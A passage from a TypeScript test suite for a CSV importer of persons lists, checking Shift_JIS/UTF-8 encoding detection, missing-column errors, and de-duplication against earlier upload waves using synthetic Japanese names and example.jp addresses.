    const filler = Array.from({ length: 16_000 }, (_, i) => `p${i},p${i}@example.jp\r\n`).join('');
    const list = cp932(`name,email\r\nﾅｶ ﾏｷ,naka@example.jp\r\n${filler}山田,y@example.jp\r\n`);
    const uploadId = upload();
    const err = (await importPersonsCsv(csv(list, 65_536), deps, { caseId: 'refused', uploadId }).catch((e: unknown) => e)) as PersonsImportError;
    expect(err).toBeInstanceOf(PersonsImportError);
    expect(err.details).toMatchObject({ rule: 'encoding', row: 16_003, column: 'name' });
    expect(err.message).toMatch(/^row 16003, column name is Shift_JIS \(CP932\) text but row 2, column name was read as UTF-8: the file mixes two encodings/);
    expect(await store.exists(`cases/refused/persons/${uploadId}.ndjson.enc`)).toBe(false);
  });

  it('reports a refusal in held rows before a parser complaint that follows them', async () => {
    // The header reads both ways and names no e-mail or address column; row 3 then has a stray quote.
    const list = cp932('name,ﾅｶ\r\nA,x\r\nB"c,y\r\n');
    const err = (await importPersonsCsv(csv(list), deps, { caseId: 'refused', uploadId: upload() }).catch((e: unknown) => e)) as PersonsImportError;
    expect(err).toBeInstanceOf(PersonsImportError);
    expect(err.code).toBe('missing_columns');
  });

  it('reports an ASCII list as UTF-8', async () => {
    const { encoding } = await importPersonsCsv(csv('name,email\nA,a@example.com\n'), deps, { caseId: 'sjis', uploadId: upload() });
    expect(encoding).toBe('utf-8');
  });
});

describe('importPersonsCsv against earlier waves of the case', () => {
  const first = ['name,email,postal_address', '山田 太郎,taro@example.jp,', '鈴木 一郎,,東京都港区芝公園4-2-8', '佐藤 花子,hanako@example.jp,'].join('\n');

  it('leaves out the persons an earlier wave holds (the same 名寄せ as within one list), counting them apart from duplicates', async () => {
    const w1 = await importPersonsCsv(csv(first), deps, { caseId: 'case-waves', uploadId: upload() });
    const second = [
      'name,email,postal_address',
      '山田 太郎,TARO@example.jp,', // wave 1, by e-mail
      '鈴木一郎,,東京都港区芝公園４－２－８', // wave 1, by name and address
      '田中 三郎,saburo@example.jp,',
      '田中 三郎,saburo@example.jp,', // a duplicate within this list
      '山田 太郎,taro@example.jp,', // wave 1 again: a duplicate within this list, not removed twice
    ].join('\n');
    const w2 = await importPersonsCsv(csv(second), deps, { caseId: 'case-waves', uploadId: upload(), earlier: [w1.ref] });
    expect(w2.ref).toMatchObject({ total: 5, accepted: 1, duplicates: 2, duplicatesRemoved: 2, earlierWaves: [w1.ref.uploadId] });
    expect((await all(w2.ref)).map((r) => r.person.email)).toEqual(['saburo@example.jp']);
    // Another case's lists never match: person ids are per case.
    const other = await importPersonsCsv(csv(second), deps, { caseId: 'case-other', uploadId: upload(), earlier: [w1.ref] });
    expect(other.ref).toMatchObject({ accepted: 3, duplicatesRemoved: 0 });
    // A first list carries neither field.
    expect(w1.ref.duplicatesRemoved).toBeUndefined();
    expect(w1.ref.earlierWaves).toBeUndefined();
  });

  it('refuses to de-duplicate against an earlier list that does not match its reference, storing nothing', async () => {
    const w1 = await importPersonsCsv(csv(first), deps, { caseId: 'case-waves-2', uploadId: upload() });
    const uploadId = upload();
    await expect(
      importPersonsCsv(csv(first), deps, { caseId: 'case-waves-2', uploadId, earlier: [{ ...w1.ref, checksum: '0'.repeat(64) }] }),
    ).rejects.toBeInstanceOf(PersonsIntegrityError);
    await expect(store.get(`cases/case-waves-2/persons/${uploadId}.ndjson.enc`)).rejects.toThrow();
  });
});
